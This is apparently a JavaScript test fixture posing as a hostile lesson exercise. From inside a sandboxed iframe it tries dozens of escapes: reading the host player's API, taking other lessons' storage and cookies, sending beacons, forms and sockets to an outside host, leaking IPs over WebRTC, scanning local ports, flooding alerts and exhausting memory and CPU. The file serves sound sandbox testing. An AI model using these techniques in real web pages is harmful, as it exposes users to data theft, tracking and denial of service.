// Everything that a signed but hostile exercise may try from its frame. Each attempt tells what it got; `null` is "refused".
// The driver gives the addresses: {player, outside, stun, victim, other, ports}.
(function () {
  'use strict';
  var to = {};
  var results = window.__results = {};

  function wait(ms) { return new Promise(function (done) { setTimeout(done, ms); }); }
  function within(ms, promise) {
    return Promise.race([promise, wait(ms).then(function () { throw new Error('nothing within ' + ms + ' ms'); })]);
  }
  function text(url, options) {
    return within(3000, fetch(url, options).then(function (answer) {
      if (answer.type === 'opaque') { throw new Error('opaque: nothing can be read'); }
      return answer.status + ' ' + answer.type;
    }));
  }
  function loads(element, url) {
    return within(3000, new Promise(function (done, failed) {
      element.onload = function () { done('loaded'); };
      element.onerror = function () { failed(new Error('refused')); };
      element.src = url;
      document.body.appendChild(element);
    }));
  }
  function frame(url) {
    var element = document.createElement('iframe');
    element.src = url;
    document.body.appendChild(element);
    return wait(1500).then(function () {
      var inside;
      try { inside = element.contentDocument && element.contentDocument.body && element.contentDocument.body.textContent; } catch (error) { inside = null; }
      document.body.removeChild(element);
      if (!inside) { throw new Error('nothing of it can be seen'); }
      return inside.slice(0, 60);
    });
  }
  function make(tag) { return document.createElement(tag); }
  function form(target, action, method) {
    var element = make('form');
    element.action = action;
    element.method = method;
    element.target = target;
    document.body.appendChild(element);
    element.submit();
    return wait(500).then(function () { return 'sent'; });
  }

  // [name, attempt]: what resolves was got, what rejects was refused. The driver knows which must be refused.
  var attempts = [
    ['read api/home of the player', function () { return text(to.player + '/api/home'); }],
    ['read api/shelf, not asking for leave', function () { return text(to.player + '/api/shelf', { mode: 'no-cors' }); }],
    ['read api/shelf by localhost', function () { return text(to.player.replace('127.0.0.1', 'localhost') + '/api/shelf'); }],
    ['read api/shelf by XHR', function () {
      return within(3000, new Promise(function (done, failed) {
        var call = new XMLHttpRequest();
        call.open('GET', to.player + '/api/shelf');
        call.onload = function () { done(String(call.status)); };
        call.onerror = function () { failed(new Error('refused')); };
        call.send();
      }));
    }],
    ['listen to api/live', function () {
      return within(3000, new Promise(function (done, failed) {
        var source = new EventSource(to.player + '/api/live');
        source.onopen = function () { done('open'); };
        source.onerror = function () { failed(new Error('refused')); };
      }));
    }],
    ['write: say a fault', function () { return text(to.player + '/api/faults', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-BBT-Page': '1' }, body: '{"class":"screen","symptom":"black"}' }); }],
    ['write: use, as a beacon', function () {
      if (!navigator.sendBeacon(to.player + '/api/use', '{}')) { throw new Error('refused'); }
      // Accepted into the queue is not sent: the player's log is asked by the driver.
      return wait(500).then(function () { throw new Error('queued, never sent'); });
    }],
    ['write: a form to the player', function () { return form('_self', to.player + '/api/settings', 'POST').then(function () { throw new Error('still here'); }); }],
    ['load the player\'s script as a script', function () { return loads(make('script'), to.player + '/js/base.js'); }],
    ['load the player\'s picture as a picture', function () { return loads(make('img'), to.player + '/img/icon.svg'); }],
    ['frame the player', function () { return frame(to.player + '/'); }],
    ['read a lesson file of the player', function () { return text(to.player + '/files/' + to.victim + '/' + encodeURIComponent('互动练习') + '/index.html'); }],
    ['read the disks', function () { return text(to.player + '/api/disks'); }],
    ['read another lesson\'s files, its own way', function () { return text(to.other); }],
    ['read another lesson\'s files under my own name', function () {
      var own = window.location.origin + new URL(to.other).pathname;
      return fetch(own).then(function (answer) { if (!answer.ok) { throw new Error('HTTP ' + answer.status); } return String(answer.status); });
    }],
    ['frame another lesson', function () { return frame(to.other); }],
    ['frame another lesson under my own name', function () { return frame(new URL(to.other).pathname).then(function (seen) { if (/host_refused|Misdirected/i.test(seen)) { throw new Error('refused: ' + seen); } return seen; }); }],
    ['storage of another lesson', function () {
      var found = Object.keys(localStorage).concat(Object.keys(sessionStorage)).map(function (key) { return localStorage[key] || sessionStorage[key]; }).join();
      if (found.indexOf('secret') < 0) { throw new Error('empty'); }
      return Promise.resolve(found);
    }],
    ['cookies of another lesson', function () {
      if (document.cookie.indexOf('secret') < 0) { throw new Error('none: "' + document.cookie + '"'); }
      return Promise.resolve(document.cookie);
    }],
    ['databases of another lesson', function () {
      return within(3000, (indexedDB.databases ? indexedDB.databases() : Promise.resolve([])).then(function (all) {
        if (!all.length) { throw new Error('none'); }
        return all.map(function (one) { return one.name; }).join();
      }));
    }],
    ['caches of another lesson', function () {
      return within(3000, caches.keys().then(function (all) {
        if (!all.length) { throw new Error('none'); }
        return all.join();
      }));
    }],
    ['a cookie for the player, by a wider domain', function () {
      document.cookie = 'stolen=1; domain=localhost; path=/';
      document.cookie = 'stolen=1; domain=127.0.0.1; path=/';
      if (document.cookie.indexOf('stolen') < 0) { throw new Error('not set'); }
      return Promise.resolve(document.cookie);
    }],
    ['a wider domain for myself', function () {
      document.domain = 'localhost';
      return Promise.resolve(document.domain);
    }],
    ['a service worker', function () { return within(3000, navigator.serviceWorker.register('worker.js')).then(function () { return 'registered'; }); }],
    ['a shared worker', function () {
      return within(3000, new Promise(function (done, failed) {
        var worker = new SharedWorker('worker.js');
        worker.onerror = function () { failed(new Error('refused')); };
        worker.port.onmessage = function () { done('runs'); };
        setTimeout(function () { failed(new Error('silent')); }, 1500);
      }));
    }],
    ['ask the world outside', function () { return text(to.outside + '/fetch'); }],
    ['ask the world outside, not asking for leave', function () { return text(to.outside + '/nocors', { mode: 'no-cors' }); }],
    ['a picture from outside', function () { return loads(make('img'), to.outside + '/img.png'); }],
    ['a script from outside', function () { return loads(make('script'), to.outside + '/x.js'); }],
    ['a style from outside', function () {
      var link = make('link');
      link.rel = 'stylesheet';
      link.href = to.outside + '/x.css';
      return within(3000, new Promise(function (done, failed) { link.onload = function () { done('loaded'); }; link.onerror = function () { failed(new Error('refused')); }; document.head.appendChild(link); }));
    }],
    ['a socket to outside', function () {
      return within(3000, new Promise(function (done, failed) {
        var socket = new WebSocket(to.outside.replace('http', 'ws') + '/ws');
        socket.onopen = function () { done('open'); };
        socket.onerror = function () { failed(new Error('refused')); };
      }));
    }],
    ['a beacon to outside', function () { navigator.sendBeacon(to.outside + '/beacon', 'x'); return wait(700).then(function () { throw new Error('queued, never sent'); }); }],
    ['a form to outside', function () { return form('_self', to.outside + '/form', 'POST').then(function () { throw new Error('still here'); }); }],
    ['links that are fetched ahead', function () {
      ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender'].forEach(function (rel) {
        var link = make('link');
        link.rel = rel;
        link.href = to.outside + '/' + rel;
        if (rel === 'preload') { link.as = 'image'; }
        document.head.appendChild(link);
      });
      return wait(1200).then(function () { throw new Error('nothing can be read; see the listener outside'); });
    }],
    ['packets by WebRTC', function () {
      var peer = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] }), found = [];
      peer.onicecandidate = function (event) { if (event.candidate && / (srflx|host) /.test(event.candidate.candidate)) { found.push(event.candidate.candidate); } };
      peer.createDataChannel('x');
      return within(4000, peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer); }).then(function () { return wait(2000); })).then(function () {
        peer.close();
        if (!found.length) { throw new Error('no candidates'); }
        return found.length + ' candidates';
      });
    }],
    ['other ports of the board', function () {
      return Promise.all(to.ports.map(function (port) {
        return text('http://127.0.0.1:' + port + '/').then(function () { return port; }, function () { return 0; });
      })).then(function (open) {
        open = open.filter(Boolean);
        if (!open.length) { throw new Error('none of ' + to.ports.length); }
        return open.join();
      });
    }],
    ['go elsewhere with the whole page', function () { window.top.location.href = to.outside + '/top'; return wait(500).then(function () { throw new Error('still here'); }); }],
    ['read the address of the whole page', function () { return Promise.resolve(String(window.top.location.href)); }],
    ['read the player\'s page', function () { return Promise.resolve(String(window.parent.document.title)); }],
    ['take the sandbox off my frame', function () { window.frameElement.removeAttribute('sandbox'); return Promise.resolve('gone'); }],
    ['a link to the whole page', function () {
      var link = make('a');
      link.target = '_top';
      link.href = to.outside + '/link';
      document.body.appendChild(link);
      link.click();
      return wait(500).then(function () { throw new Error('still here'); });
    }],
    ['a new window', function () {
      var opened = window.open(to.outside + '/popup', '_blank');
      if (!opened) { throw new Error('none'); }
      return Promise.resolve('open');
    }],
    ['a download', function () {
      var link = make('a');
      link.href = 'data:application/octet-stream,x';
      link.download = 'virus.exe';
      document.body.appendChild(link);
      link.click();
      return wait(800).then(function () { throw new Error('see the driver'); });
    }],
    ['a hundred alerts', function () {
      var from = Date.now(), i;
      for (i = 0; i < 100; i += 1) { alert('x'); confirm('x'); prompt('x'); }
      if (Date.now() - from > 2000) { return Promise.resolve('held the screen for ' + (Date.now() - from) + ' ms'); }
      throw new Error('ignored');
    }],
    ['a hundred prints', function () { var i; for (i = 0; i < 100; i += 1) { print(); } return wait(300).then(function () { throw new Error('ignored'); }); }],
    ['hold the page at leaving', function () { window.onbeforeunload = function () { return 'stay'; }; return wait(10).then(function () { throw new Error('see the driver'); }); }],
    ['the whole screen', function () { return within(2000, document.documentElement.requestFullscreen()).then(function () { return 'full'; }); }],
    ['the pointer', function () { return within(2000, Promise.resolve(document.documentElement.requestPointerLock())).then(function () { return wait(300); }).then(function () { if (!document.pointerLockElement) { throw new Error('not locked'); } return 'locked'; }); }],
    ['the camera', function () { return within(3000, navigator.mediaDevices.getUserMedia({ video: true })).then(function () { return 'sees'; }); }],
    ['the microphone', function () { return within(3000, navigator.mediaDevices.getUserMedia({ audio: true })).then(function () { return 'hears'; }); }],
    ['the screen', function () { return within(3000, navigator.mediaDevices.getDisplayMedia({ video: true })).then(function () { return 'sees'; }); }],
    ['the place', function () { return within(3000, new Promise(function (done, failed) { navigator.geolocation.getCurrentPosition(function () { done('known'); }, failed); })); }],
    ['USB devices', function () { return within(3000, navigator.usb.getDevices().then(function (all) { return navigator.usb.requestDevice({ filters: [] }).then(function () { return all.length + ' devices'; }); })); }],
    ['the clipboard', function () { return within(3000, navigator.clipboard.readText()).then(function () { return 'read'; }); }],
    ['notifications', function () { return within(3000, Notification.requestPermission()).then(function (said) { if (said !== 'granted') { throw new Error(said); } return said; }); }],
    ['words to the player\'s page', function () {
      [{ type: 'home' }, 'go', { cmd: 'unlock' }].forEach(function (word) { window.parent.postMessage(word, '*'); });
      return wait(300).then(function () { throw new Error('nobody listens'); });
    }],
    ['a plug-in', function () {
      var object = make('object');
      object.data = to.player + '/';
      document.body.appendChild(object);
      return wait(500).then(function () { if (object.contentDocument) { return 'inside'; } throw new Error('refused'); });
    }],
    ['steps in the history, to trap the way back', function () { var i; for (i = 0; i < 60; i += 1) { history.pushState({}, '', '#' + i); } return Promise.resolve('60 steps'); }],
    // And what an exercise needs must work, or the sandbox is no use.
    ['MUST WORK own storage', function () { localStorage.setItem('own', '1'); return Promise.resolve(localStorage.getItem('own')); }],
    ['MUST WORK own files', function () { return text('inner.html'); }],
    ['MUST WORK own inner page', function () { return frame('inner.html'); }],
    ['MUST WORK own worker', function () {
      return within(3000, new Promise(function (done, failed) {
        var worker = new Worker(URL.createObjectURL(new Blob(['postMessage("works")'])));
        worker.onmessage = function (event) { done(event.data); };
        worker.onerror = function () { failed(new Error('refused')); };
      }));
    }]
  ];

  window.__run = function (addresses) {
    to = addresses;
    return attempts.reduce(function (before, attempt) {
      return before.then(function () {
        return new Promise(function (done) { try { done(attempt[1]()); } catch (error) { done(Promise.reject(error)); } })
          .then(function (got) { results[attempt[0]] = { got: String(got) }; }, function (error) { results[attempt[0]] = { refused: String(error && (error.name ? error.name + ': ' + error.message : error)).slice(0, 140) }; });
      });
    }, Promise.resolve()).then(function () {
      document.getElementById('state').textContent = 'done';
      return results;
    });
  };
  // The two that never come back: asked for by the driver at the end.
  window.__eat = function () {
    var kept = window.__kept = [], i;
    for (i = 0; i < 16; i += 1) { kept.push(new Uint8Array(64 * 1024 * 1024).fill(i + 1)); }
    return kept.length * 64;
  };
  window.__spin = function () { for (;;) { Math.sqrt(Math.random()); } };
}());
